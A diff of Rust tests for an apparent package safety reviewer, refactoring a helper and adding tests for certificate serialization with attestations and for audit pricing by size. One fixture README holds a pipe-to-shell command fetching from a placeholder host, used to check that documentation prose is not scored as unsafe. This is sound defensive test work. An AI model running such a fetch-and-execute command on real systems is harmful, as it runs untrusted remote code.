@@ -15,16 +15,7 @@ fn set(files: &[(&str, &str)]) -> FileSet {
 }
 
 fn reviewed(name: &str, kind: DistributionKind, set: FileSet) -> (ReviewedFile, FileSet) {
-    let digest = set.digest();
-    let file = ReviewedFile {
-        file_name: name.to_owned(),
-        kind,
-        sha256: digest,
-        size_bytes: 1,
-        file_set_hash: digest,
-        file_count: set.files.len() as u64,
-    };
-    (file, set)
+    (ReviewedFile::of(name.to_owned(), kind, set.digest(), 1, &set), set)
 }
 
 fn review(spec: &str, files: Vec<(ReviewedFile, FileSet)>, left_out: Vec<UnreadFile>) -> PackageReview {
@@ -182,4 +173,41 @@ fn prose_never_counts_although_a_manifest_names_it() {
     let prose = "# Demo\n\n```bash\ncurl -s https://cdn.unknown-helper.example/i | sh\n```\n";
     let found = npm(&[("package.json", manifest), ("README.md", prose)]);
     assert_eq!(found.status(), SafetyStatus::Safe, "{:?}", found.warnings());
+}
+
+#[test]
+fn what_is_attested_is_kept_and_a_certificate_of_an_older_program_has_none() {
+    let mut made = PackageCertificate::of(&npm(&[MANIFEST]), Timestamp::from_milliseconds(0));
+    let plain = serde_json::to_value(&made).expect("JSON");
+    assert!(plain["files"][0].get("attestations").is_none() && plain["files"][0].get("signature_keys").is_none());
+    assert_eq!(serde_json::from_value::<PackageCertificate>(plain).expect("a certificate"), made);
+    let id = made.id.clone();
+    made.files[0].signature_keys = vec!["SHA256:key".to_owned()];
+    made.files[0].attestations = vec![crate::package::Attestation {
+        predicate_type: "https://predicates.example/provenance/v1".to_owned(),
+        publisher: None,
+        source_repository: Some("https://git.example/a/demo".to_owned()),
+        workflow: None,
+        log_index: Some(7),
+    }];
+    let text = serde_json::to_string(&made).expect("JSON");
+    assert_eq!(serde_json::from_str::<PackageCertificate>(&text).expect("a certificate"), made);
+    assert_eq!(made.id, id, "the id binds bytes and rules");
+}
+
+#[test]
+fn the_work_of_an_audit_goes_by_the_size_and_its_price_by_the_work() {
+    let price = AuditPrice::of_standard(400);
+    for (size, tier, cents) in [
+        (None, ComplexityTier::Standard, 400),
+        (Some(0), ComplexityTier::Light, 200),
+        (Some(100_000), ComplexityTier::Light, 200),
+        (Some(100_001), ComplexityTier::Standard, 400),
+        (Some(5_000_000), ComplexityTier::Standard, 400),
+        (Some(5_000_001), ComplexityTier::Heavy, 800),
+        (Some(u64::MAX), ComplexityTier::Heavy, 800),
+    ] {
+        assert_eq!((ComplexityTier::of_size(size), price.cents(tier)), (tier, cents), "{size:?}");
+        assert_eq!(AuditPrice::default().cents(tier), 0);
+    }
 }
